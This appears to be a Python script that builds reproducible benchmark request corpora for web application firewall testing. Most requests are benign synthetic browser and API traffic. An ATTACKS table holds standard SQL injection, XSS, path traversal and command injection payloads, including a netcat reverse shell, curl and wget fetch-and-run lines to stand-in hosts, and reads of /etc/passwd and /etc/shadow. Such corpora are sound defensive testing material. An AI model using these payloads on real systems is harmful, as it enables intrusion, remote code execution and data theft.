#!/usr/bin/env python3
"""Builds the benchmark request corpora (JSON lines, shared/docs/corpus-format.md).

Owns the committed files next to it: get.jsonl, post-form.jsonl, post-json.jsonl,
multipart.jsonl, mix.jsonl and post-16k.jsonl. Everything is drawn from one seeded PRNG, so running this
script again reproduces the files byte for byte (check with `make.py --check`).

Benign requests are shaped like real browser / API traffic and are meant to pass CRS at PL1;
attack requests carry well-known SQLi, XSS, LFI and RCE payloads and are meant to be blocked.
This script does not run any WAF: `perf/baseline/run.sh` shows what libmodsecurity3 makes of them.
Python 3 standard library only.
"""

import argparse
import base64
import json
import os
import random
import sys
import urllib.parse

SEED = 20261124
HERE = os.path.dirname(os.path.abspath(__file__))

# Vocabulary without SQL/shell keywords, so benign text never looks like an attack.
WORDS = (
    "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut "
    "labore et dolore magna aliqua enim ad minim veniam quis nostrud exercitation ullamco laboris "
    "nisi aliquip ex ea commodo consequat duis aute irure reprehenderit in voluptate velit esse "
    "cillum fugiat nulla pariatur excepteur sint occaecat cupidatat non proident sunt culpa qui "
    "officia deserunt mollit anim id est laborum garden river mountain yellow purple coffee "
    "blanket window pencil travel summer winter autumn spring harbor meadow lantern orchard"
).split()
# Short Latin words read as two- or three-letter shell commands (`sed`, `id`, ...) to CRS 932250.
WORDS = [w for w in WORDS if len(w) >= 5]

FIRST = ["Alice", "Bruno", "Chloe", "Dmitri", "Elena", "Farid", "Greta", "Hiro", "Ines", "Jonas",
         "Keiko", "Liam", "Maya", "Nikos", "Olga", "Pedro", "Quinn", "Rosa", "Sven", "Tara"]
LAST = ["Andersen", "Baptiste", "Castillo", "Dubois", "Eriksen", "Fischer", "Garcia", "Haddad",
        "Ivanova", "Jensen", "Kowalski", "Lindqvist", "Moreau", "Nakamura", "Okafor", "Petrov"]
CITIES = ["Lisbon", "Porto", "Lyon", "Utrecht", "Graz", "Tartu", "Kyoto", "Oslo", "Cork", "Turin"]
HOSTS = ["shop.example.com", "www.example.org", "app.example.net", "news.example.com"]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Mobile Safari/537.36",
]
API_AGENTS = ["okhttp/4.12.0", "python-requests/2.32.3", "axios/1.7.7", "Go-http-client/1.1"]
LANGS = ["en-US,en;q=0.9", "fr-FR,fr;q=0.9,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "pt-PT,pt;q=0.9"]
SECTIONS = ["products", "category", "blog", "news", "account", "search", "help", "catalog"]

# Well-known attack payloads (CRS regression-suite style), placed in a query or form argument.
ATTACKS = {
    "sqli": [
        "1' OR '1'='1",
        "1 UNION SELECT username,password FROM users--",
        "admin'--",
        "1; DROP TABLE users",
        "' AND SLEEP(5)--",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
        "-1 OR 1=1 LIMIT 1",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert(1)>",
        "\"><iframe src=javascript:alert(1)>",
        "<body onload=alert('xss')>",
        "javascript:alert(document.domain)",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "....//....//....//etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fshadow",
        "/etc/passwd",
        "..\\..\\..\\windows\\win.ini",
    ],
    "rce": [
        ";cat /etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://evil.example/x.sh|sh)",
        "`cat /etc/passwd`",
        "; wget http://198.51.100.7/a.sh -O /tmp/a.sh; sh /tmp/a.sh",
        "127.0.0.1 && whoami",
    ],
}


def words(rng, n):
    return " ".join(rng.choice(WORDS) for _ in range(n))


def token(rng, n, alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def hexid(rng, n):
    return token(rng, n, "0123456789abcdef")


def client_ip(rng):
    return "198.51.100.%d" % rng.randint(1, 254)


def browser_headers(rng, host, referer=True):
    """Headers of a current desktop/mobile browser navigation: about 700 bytes, 5 cookies."""
    cookies = "; ".join([
        "sessionid=" + token(rng, 32),
        "csrftoken=" + token(rng, 32),
        "_ga=GA1.2.%d.%d" % (rng.randint(10**8, 10**9), rng.randint(1_600_000_000, 1_750_000_000)),
        "lang=" + rng.choice(["en", "fr", "de", "pt"]),
        "cart=" + hexid(rng, 16),
    ])
    h = [
        ["Host", host],
        ["User-Agent", rng.choice(USER_AGENTS)],
        ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
                   "image/webp,*/*;q=0.8"],
        ["Accept-Language", rng.choice(LANGS)],
        ["Accept-Encoding", "gzip, deflate, br, zstd"],
    ]
    if referer:
        h.append(["Referer", "https://%s/%s/" % (host, rng.choice(SECTIONS))])
    h += [
        ["Cookie", cookies],
        ["Upgrade-Insecure-Requests", "1"],
        ["Sec-Fetch-Dest", "document"],
        ["Sec-Fetch-Mode", "navigate"],
        ["Sec-Fetch-Site", "same-origin"],
        ["Priority", "u=0, i"],
    ]
    return h


def req(name, method, uri, headers, rng, body=None, body_b64=None):
    r = {"name": name, "method": method, "uri": uri, "version": "1.1", "headers": headers}
    if body is not None:
        r["body"] = body
    if body_b64 is not None:
        r["body_b64"] = body_b64
    r["src"] = client_ip(rng)
    return r


def get_request(rng, name, attack=None):
    """A browser GET with 4 query arguments; `attack` replaces one argument's value."""
    host = rng.choice(HOSTS)
    args = [
        ("q", words(rng, rng.randint(1, 3))),
        ("page", str(rng.randint(1, 40))),
        ("sort", rng.choice(["price_asc", "price_desc", "newest", "rating"])),
        ("ref", rng.choice(["home", "nav", "footer", "mail"]) + "_" + hexid(rng, 6)),
    ]
    if attack is not None:
        i = rng.randrange(len(args))
        args[i] = (args[i][0], attack)
    uri = "/%s/%s?%s" % (rng.choice(SECTIONS), token(rng, 8, "abcdefghijklmnopqrstuvwxyz"),
                         urllib.parse.urlencode(args))
    return req(name, "GET", uri, browser_headers(rng, host), rng)


def form_body(rng, target, attack=None):
    """An urlencoded checkout/contact form of about `target` bytes."""
    first, last = rng.choice(FIRST), rng.choice(LAST)
    fields = [
        ("csrfmiddlewaretoken", token(rng, 64)),
        ("first_name", first),
        ("last_name", last),
        ("email", "%s.%s@mail.example.com" % (first.lower(), last.lower())),
        ("phone", "+351 %03d %03d %03d" % (rng.randint(100, 999), rng.randint(0, 999),
                                          rng.randint(0, 999))),
        ("address", "%d %s street" % (rng.randint(1, 300), rng.choice(WORDS))),
        ("city", rng.choice(CITIES)),
        ("zip", "%04d-%03d" % (rng.randint(1000, 9999), rng.randint(0, 999))),
        ("newsletter", rng.choice(["on", "off"])),
        ("comment", ""),
    ]
    if attack is not None:
        i = rng.choice([1, 5, 6, 9])
        fields[i] = (fields[i][0], attack)
    body = urllib.parse.urlencode(fields)
    # Grow the free-text comment until the body reaches the target size.
    comment = fields[-1][1]
    while len(body) < target:
        comment = (comment + " " + rng.choice(WORDS)).strip()
        fields[-1] = ("comment", comment)
        body = urllib.parse.urlencode(fields)
    return body


def form_request(rng, name, attack=None, size=1024):
    host = rng.choice(HOSTS)
    body = form_body(rng, size, attack)
    h = browser_headers(rng, host)
    h.insert(5, ["Content-Type", "application/x-www-form-urlencoded"])
    h.insert(6, ["Content-Length", str(len(body.encode()))])
    h.insert(7, ["Origin", "https://" + host])
    return req(name, "POST", "/checkout/submit", h, rng, body=body)


def json_request(rng, name):
    """An API call carrying a JSON order of about 4 KB."""
    host = "api." + rng.choice(HOSTS).split(".", 1)[1]
    items = []
    order = {
        "order_id": hexid(rng, 24),
        "customer": {
            "id": rng.randint(10**6, 10**7),
            "name": "%s %s" % (rng.choice(FIRST), rng.choice(LAST)),
            "email": "%s@mail.example.com" % token(rng, 8, "abcdefghijklmnopqrstuvwxyz"),
            "address": {"street": "%d %s street" % (rng.randint(1, 300), rng.choice(WORDS)),
                        "city": rng.choice(CITIES), "country": rng.choice(["PT", "FR", "DE", "NL"])},
        },
        "currency": "EUR",
        "items": items,
        "notes": words(rng, 12),
    }
    while len(json.dumps(order, separators=(",", ":"))) < 4000:
        items.append({
            "sku": "SKU-%06d" % rng.randint(0, 999999),
            "title": words(rng, rng.randint(2, 5)),
            "quantity": rng.randint(1, 5),
            "unit_price": round(rng.uniform(1, 200), 2),
            "tags": [rng.choice(WORDS) for _ in range(rng.randint(1, 3))],
            "gift": rng.random() < 0.1,
        })
    body = json.dumps(order, separators=(",", ":"))
    h = [
        ["Host", host],
        ["User-Agent", rng.choice(API_AGENTS)],
        ["Accept", "application/json"],
        ["Accept-Encoding", "gzip"],
        ["Authorization", "Bearer " + token(rng, 40)],
        ["Content-Type", "application/json"],
        ["Content-Length", str(len(body))],
        ["X-Request-Id", "%s-%s-%s" % (hexid(rng, 8), hexid(rng, 4), hexid(rng, 12))],
    ]
    return req(name, "POST", "/api/v1/orders", h, rng, body=body)


def multipart_request(rng, name):
    """A profile form with a text field and a CSV attachment of 2-6 KB."""
    host = rng.choice(HOSTS)
    boundary = "----WebKitFormBoundary" + token(rng, 16)
    rows = ["date,sku,quantity,amount"]
    size = rng.randint(2048, 6144)
    while sum(len(r) + 2 for r in rows) < size:
        rows.append("2026-%02d-%02d,SKU-%06d,%d,%.2f" % (rng.randint(1, 12), rng.randint(1, 28),
                                                     rng.randint(0, 999999), rng.randint(1, 9),
                                                     rng.uniform(1, 500)))
    csv = "\r\n".join(rows) + "\r\n"
    parts = [
        ("Content-Disposition: form-data; name=\"title\"\r\n\r\n", words(rng, 4)),
        ("Content-Disposition: form-data; name=\"visibility\"\r\n\r\n", "private"),
        ("Content-Disposition: form-data; name=\"file\"; filename=\"report-%s.csv\"\r\n"
         "Content-Type: text/csv\r\n\r\n" % hexid(rng, 6), csv),
    ]
    body = "".join("--%s\r\n%s%s\r\n" % (boundary, head, value) for head, value in parts)
    body += "--%s--\r\n" % boundary
    h = browser_headers(rng, host)
    h.insert(5, ["Content-Type", "multipart/form-data; boundary=" + boundary])
    h.insert(6, ["Content-Length", str(len(body.encode()))])
    h.insert(7, ["Origin", "https://" + host])
    # Sent as base64 to show the non-UTF-8 path of the format works too (the CSV is ASCII).
    return req(name, "POST", "/account/reports/upload", h, rng,
               body_b64=base64.b64encode(body.encode()).decode())


def attack_request(rng, name):
    kind = rng.choice(sorted(ATTACKS))
    payload = rng.choice(ATTACKS[kind])
    if rng.random() < 0.6:
        return get_request(rng, name, attack=payload)
    return form_request(rng, name, attack=payload)


def build():
    """Returns {file name: list of request dicts}; one PRNG stream per file."""
    out = {}
    rng = random.Random(SEED)
    out["get.jsonl"] = [get_request(rng, "get-%04d" % i) for i in range(500)]
    rng = random.Random(SEED + 1)
    out["post-form.jsonl"] = [form_request(rng, "form-%04d" % i) for i in range(300)]
    rng = random.Random(SEED + 2)
    out["post-json.jsonl"] = [json_request(rng, "json-%04d" % i) for i in range(200)]
    rng = random.Random(SEED + 3)
    out["multipart.jsonl"] = [multipart_request(rng, "multipart-%04d" % i) for i in range(100)]
    # The mix: 1,000 requests, exactly 5 % attacks at random positions, the rest in the shares
    # of a typical site (60 % pages, 15 % forms, 15 % API calls, 5 % uploads).
    rng = random.Random(SEED + 4)
    n = 1000
    attack_at = set(rng.sample(range(n), n * 5 // 100))
    kinds = ["get"] * 60 + ["form"] * 15 + ["json"] * 15 + ["multipart"] * 5
    mix = []
    for i in range(n):
        if i in attack_at:
            mix.append(attack_request(rng, "mix-%04d-attack" % i))
            continue
        k = rng.choice(kinds)
        make = {"get": get_request, "form": form_request, "json": json_request,
                "multipart": multipart_request}[k]
        mix.append(make(rng, "mix-%04d-%s" % (i, k)))
    out["mix.jsonl"] = mix
    # 16 KB form posts, for the large-body latency target (needs a max-frame-size above 16,380
    # on both sides, as HAProxy needs a larger tune.bufsize to send them whole).
    rng = random.Random(SEED + 5)
    out["post-16k.jsonl"] = [form_request(rng, "form16k-%04d" % i, size=16384) for i in range(100)]
    return out


def render(reqs):
    return "".join(json.dumps(r, separators=(",", ":"), ensure_ascii=False) + "\n" for r in reqs)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="verify the committed files, write nothing")
    ap.add_argument("--out", default=HERE, help="output directory (default: next to this script)")
    a = ap.parse_args()
    bad = 0
    for fname, reqs in build().items():
        text = render(reqs)
        path = os.path.join(a.out, fname)
        if a.check:
            try:
                with open(path, encoding="utf-8") as f:
                    same = f.read() == text
            except FileNotFoundError:
                same = False
            if not same:
                print("differs: " + path, file=sys.stderr)
                bad += 1
            continue
        with open(path, "w", encoding="utf-8") as f:
            f.write(text)
        print("%-16s %5d requests %9d bytes" % (fname, len(reqs), len(text.encode())), file=sys.stderr)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
